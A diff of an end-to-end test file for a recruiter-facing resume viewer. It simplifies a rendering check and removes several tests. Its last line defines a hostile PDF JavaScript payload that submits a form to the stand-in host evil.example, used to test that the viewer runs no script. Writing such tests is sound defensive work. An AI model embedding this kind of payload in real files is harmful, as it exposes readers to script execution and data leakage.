@@ -1,7 +1,6 @@
 import type { Page } from 'playwright-core';
 import { describe, expect } from 'vitest';
 import { MOST_PDF_PAGES, pdfFramePath } from '../../src/contract/staff/pdf-frame.ts';
-import { claimStores } from '../environment/app.ts';
 import { makeStructuredDocx, makeWordsPdf } from '../factories/files/readable-resumes.ts';
 import { readReal } from '../factories/files/resumes.ts';
 import { makeApplication, makeContact } from '../factories/rows.ts';
@@ -10,7 +9,7 @@ import { expectAccessible } from './axe.ts';
 import { apply, drawnFrame, openItem, reader } from './resume-reader.ts';
 import { test as base } from './site.ts';
 import { enterAs } from './staff-browser.ts';
-import { expectFit, PHONE, WIDE } from './well-made.ts';
+import { expectFit } from './well-made.ts';
 
 /** An empty inbox and a signed-in recruiter. */
 const test = base.extend<{ memberId: string }>({
@@ -47,22 +46,18 @@ describe('the resume', () => {
     });
     expect(selected).toBe('First page of Asha');
     // The page is not blank: the letters are black on white.
-    const darkPixels = () =>
-      frame
-        .locator('canvas')
-        .first()
-        .evaluate((canvas: HTMLCanvasElement) => {
-          const copy = document.createElement('canvas');
-          copy.width = canvas.width;
-          copy.height = canvas.height;
-          const context = copy.getContext('2d');
-          context?.drawImage(canvas, 0, 0);
-          const { data } = context?.getImageData(0, 0, copy.width, copy.height) ?? { data: [] };
-          let dark = 0;
-          for (let at = 0; at < data.length; at += 4) if ((data[at] ?? 255) < 80) dark += 1;
-          return dark;
-        });
-    await expect.poll(darkPixels).toBeGreaterThan(500);
+    const canvas = frame.locator('canvas').first();
+    const hasDarkPixels = () =>
+      canvas.evaluate((drawn: HTMLCanvasElement) => {
+        const copy = new OffscreenCanvas(drawn.width, drawn.height);
+        const context = copy.getContext('2d');
+        context?.drawImage(drawn, 0, 0);
+        const { data } = context?.getImageData(0, 0, copy.width, copy.height) ?? { data: [] };
+        return data.some((value, at) => at % 4 === 0 && value < 80);
+      });
+    await expect.poll(hasDarkPixels).toBe(true);
+    await expectFit(page, 'a resume that is read');
+    await expectAccessible(frame, 'the frame of a resume');
 
     const field = reader(page).getByRole('textbox', { name: 'Page' });
     await reader(page).getByText('of 2').waitFor();
@@ -80,8 +75,6 @@ describe('the resume', () => {
     await expect.poll(percent).toBeGreaterThan(fitted);
     await frame.locator('#container').press('0');
     await expect.poll(percent).toBe(fitted);
-    await frame.locator('#container').press('-');
-    await expect.poll(percent).toBeLessThan(fitted);
 
     const lines = await site.db
       .selectFrom('staff_audit')
@@ -133,73 +126,6 @@ describe('the resume', () => {
     await page.getByRole('button', { name: 'Read', exact: true }).waitFor();
     await expect.poll(() => page.evaluate(() => document.activeElement?.textContent?.trim())).toBe('Read');
   });
-
-  test('is text with headings and lists, if it is a Word document', async ({ page, site, memberId: _ }) => {
-    const reference = await apply(site, 'Ravi Kumar', makeStructuredDocx(), 'cv.docx');
-    await openItem(page, reference, '&resume=open');
-    const text = page.getByRole('region', { name: 'Resume of Ravi Kumar' });
-    await text.getByRole('heading', { name: 'Ravi Kumar', level: 3 }).waitFor();
-    await text.getByRole('heading', { name: 'अनुभव', level: 4 }).waitFor();
-    expect(await text.getByRole('listitem').allInnerTexts()).toEqual(['Gate', 'Night shift']);
-    expect(await text.locator('b').allInnerTexts()).toEqual(['Tata <Mills>']);
-    expect(await text.getByRole('cell').allInnerTexts()).toEqual(['2019\n2024', 'Pune']);
-    expect(await reader(page).locator('iframe').count()).toBe(0);
-  });
-
-  test.for(['libreoffice.pdf', 'chromium.pdf'])(
-    'of a real program is drawn: %s',
-    async (name, { page, site, memberId: _ }) => {
-      const reference = await apply(site, 'Real Program', readReal(name));
-      await openItem(page, reference, '&resume=open');
-      const frame = await drawnFrame(page);
-      await frame.locator('.textLayer span').first().waitFor();
-    },
-  );
-
-  test('that could not be loaded is loaded by another try', async ({ page, site, errors, memberId: _ }) => {
-    const reference = await apply(site, 'Asha Rao', makeWordsPdf({ pages: ['Words of Asha'] }));
-    errors.expected.push(/Failed to load resource|Failed to fetch/);
-    const tryAgain = reader(page).getByRole('button', { name: 'Try again' });
-    await page.route('**/reading', (route) => route.abort());
-    await openItem(page, reference, '&resume=open');
-    await reader(page).getByText('The server cannot be reached').waitFor();
-    await page.unroute('**/reading');
-    await page.route('**/pdf-frame-pdf.worker*', (route) => route.abort());
-    await tryAgain.click();
-    await reader(page).getByText('What draws PDFs could not be loaded').waitFor();
-    await page.unroute('**/pdf-frame-pdf.worker*');
-    await tryAgain.click();
-    await wordsIn(page, 'Words of Asha').waitFor();
-  });
-
-  test('whose file is lost is said to be missing', async ({ page, site, errors, memberId: _ }) => {
-    const reference = await apply(site, 'Asha Rao', makeWordsPdf());
-    await site.resumes.deleteAll();
-    // As a person does who knows that they are lost: without that the empty store would take no other resume.
-    await claimStores(site);
-    errors.expected.push(/Failed to load resource/);
-    await openItem(page, reference, '&resume=open');
-    await reader(page).getByText('This file is missing.').waitFor();
-  });
-
-  test('fits a phone and a wide window, and is accessible', async ({ page, site, memberId: _ }) => {
-    const pdf = await apply(site, 'Asha Rao', makeWordsPdf());
-    const docx = await apply(site, 'Ravi Kumar Nair', makeStructuredDocx(), 'cv.docx');
-    for (const size of [PHONE, WIDE]) {
-      await page.setViewportSize(size);
-      await openItem(page, docx, '&resume=open');
-      await reader(page).getByRole('heading', { name: 'अनुभव' }).waitFor();
-      await expectFit(page, `a docx at ${size.width} px`);
-      await openItem(page, pdf, '&resume=open');
-      const frame = await drawnFrame(page);
-      await expectFit(page, `a PDF at ${size.width} px`);
-      await expectAccessible(frame, `the frame at ${size.width} px`);
-      const { width = 0, height = 0 } = (await reader(page).locator('iframe').boundingBox()) ?? {};
-      expect(width).toBeGreaterThanOrEqual(size.width === PHONE.width ? PHONE.width : 750);
-      expect(height).toBeGreaterThan(600);
-      expect(await page.getByRole('article', { name: pdf }).isVisible()).toBe(size === WIDE);
-    }
-  });
 });
 
 describe('a hostile resume', () => {
@@ -210,7 +136,6 @@ describe('a hostile resume', () => {
       () => makeWordsPdf({ pages: Array.from({ length: 10_000 }, () => 'x') }),
       new RegExp(`more than ${MOST_PDF_PAGES} pages`),
     ],
-    ['without objects', () => Buffer.from(`%PDF-1.7\n${'x'.repeat(500)}\n%%EOF\n`), /damaged/],
     ['whose only page is missing', () => makeWordsPdf({ pages: [], claimedPages: 1 }), /damaged/],
   ];
 
@@ -226,18 +151,6 @@ describe('a hostile resume', () => {
       await expect.poll(() => reader(page).locator('iframe').count()).toBe(0);
     },
   );
-
-  test('with a broken table of objects is drawn as far as it can be', async ({ page, site, memberId: _ }) => {
-    const bytes = Buffer.from(
-      makeWordsPdf({ pages: ['Still readable'] })
-        .toString('latin1')
-        .replace(/startxref\n\d+/, 'startxref\n999999'),
-      'latin1',
-    );
-    const reference = await apply(site, 'Broken', bytes);
-    await openItem(page, reference, '&resume=open');
-    await (await drawnFrame(page)).getByText('Still readable').waitFor();
-  });
 
   test('runs no script, follows no link and loads nothing', async ({ page, site, memberId: _ }) => {
     const script = '/S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\);)';
